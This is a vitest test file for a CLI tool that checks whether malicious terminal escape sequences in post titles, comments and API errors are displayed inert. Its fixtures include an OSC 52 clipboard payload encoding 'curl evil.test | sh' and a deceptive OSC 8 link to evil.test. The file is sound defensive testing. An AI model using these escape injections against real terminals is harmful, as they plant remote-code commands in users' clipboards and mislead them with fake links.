import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { atTerminal } from '../support/at-terminal.js';
import { ADMIN_KEY, fixtureSeed } from '../support/fixture-seed.js';
import { runFp, startFpServer, type FpServer } from '../support/run-fp.js';

/**
 * A title any member of the public can write: OSC 52 (write the clipboard), clear the screen,
 * an OSC 8 link whose text lies about its target, an 8-bit CSI and DEL.
 */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07';
const CLEAR = '\x1b[2J\x1b[H';
const LINK = '\x1b]8;;https://evil.test/\x1b\\click here\x1b]8;;\x1b\\';
const EVIL = `Dark mode ${OSC52}${CLEAR}${LINK} \x9b31m\x7f end`;
const SHOWN = 'Dark mode ␛]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==␇␛[2J␛[H␛]8;;https://evil.test/␛\\click here␛]8;;␛\\';

/** Characters a terminal acts on (C0 other than tab and newline, DEL, C1), with fp's own escapes removed first. */
function obeyed(text: string, own: RegExp[] = []): string[] {
  let rest = text;
  for (const r of own) rest = rest.replace(r, '');
  return [...rest].filter((ch) => {
    const code = ch.charCodeAt(0);
    return (code < 0x20 && !'\t\n\r'.includes(ch)) || (code >= 0x7f && code <= 0x9f);
  });
}
const ESC = '\x1b';
/** What fp itself draws on a terminal: colours, line erasing, cursor show/hide and moves (prompts, spinner). */
const OWN = [new RegExp(`${ESC}\\[[\\d;]*[mKGAB]`, 'g'), new RegExp(`${ESC}\\[\\?25[lh]`, 'g')];

function seed() {
  const s = fixtureSeed();
  const p = s.portals[0];
  p.posts!.find((x) => x.key === 'dark1')!.title = EVIL;
  p.posts!.find((x) => x.key === 'pend3')!.title = EVIL;
  // The review shows the newest pending item first, a post or a comment: each carries the title.
  for (const c of p.comments ?? []) if (c.moderation_status === 'pending') c.comment = EVIL;
  p.categories![0].name = `Integrations${CLEAR}`;
  return s;
}

let server: FpServer;
beforeAll(async () => {
  server = await startFpServer(seed());
});
afterAll(() => server.stop());

describe('a title carrying OSC 52, ESC[2J and OSC 8 through the real server', () => {
  it('piped: plain rows and CSV show the escapes, never pass them on', async () => {
    for (const args of [
      ['posts', 'list'],
      ['posts', 'list', '--format', 'csv'],
      ['categories', 'list'],
    ]) {
      const r = await server.fp(args);
      expect(r.code, r.stderr).toBe(0);
      expect(obeyed(r.stdout), args.join(' ')).toEqual([]);
    }
    const plain = await server.fp(['posts', 'list']);
    expect(plain.stdout).toContain(SHOWN);
    expect((await server.fp(['categories', 'list'])).stdout).toContain('Integrations␛[2J␛[H');
  });

  it('JSON and NDJSON stay exact', async () => {
    const json = await server.fp(['posts', 'list', '--json']);
    expect(json.json.find((p: { id: string }) => p.id === 'dark1').title).toBe(EVIL);
    const ndjson = await server.fp(['posts', 'list', '--format', 'ndjson']);
    const titles = ndjson.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).title);
    expect(titles).toContain(EVIL);
  });

  it('on a terminal: the table, in colour, shows the escapes and draws only its own', async () => {
    const env: NodeJS.ProcessEnv = {
      PATH: process.env.PATH,
      HOME: process.env.HOME,
      TERM: 'xterm',
      FORCE_COLOR: '1',
      PTY_COLUMNS: '200',
      FP_BASE_URL: server.url,
      FP_API_KEY: ADMIN_KEY,
    };
    const { code, screen } = await atTerminal(['posts', 'list'], { env });
    expect(code, screen).toBe(0);
    expect(obeyed(screen, OWN)).toEqual([]);
    expect(screen).toContain('Dark mode ␛]52;c;');
  });

  it('moderation review on a terminal: the item above the prompt and `v` show the escapes', async () => {
    const env: NodeJS.ProcessEnv = {
      PATH: process.env.PATH,
      HOME: process.env.HOME,
      TERM: 'xterm',
      NO_COLOR: '1',
      FP_BASE_URL: server.url,
      FP_API_KEY: ADMIN_KEY,
    };
    const { screen } = await atTerminal(['moderation', 'review'], {
      env,
      prompt: 'Action?',
      steps: [
        ['[1 of', 'v'],
        ['Dark mode', 'q'],
      ],
    });
    expect(screen).toContain('Dark mode ␛]52;c;');
    expect(obeyed(screen, OWN)).toEqual([]);
  });
});

describe('an error message carrying escapes', () => {
  let fake: Server;
  let url: string;
  beforeAll(async () => {
    fake = createServer((_req, res) => {
      res.writeHead(422, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          message: `The title is invalid ${OSC52}`,
          errors: { title: [`must not ${CLEAR} be ${LINK}`] },
        }),
      );
    });
    await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(fake.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => fake.close(() => resolve())));

  it("the API's message and field errors reach stderr shown, not obeyed", async () => {
    const r = await runFp(['posts', 'list'], { baseUrl: url, apiKey: ADMIN_KEY });
    expect(r.code).toBe(1);
    expect(obeyed(r.stderr)).toEqual([]);
    expect(r.stderr).toBe(
      'error: The title is invalid ␛]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==␇ (422)\n' +
        '  title: must not ␛[2J␛[H be ␛]8;;https://evil.test/␛\\click here␛]8;;␛\\\n',
    );
  });
});
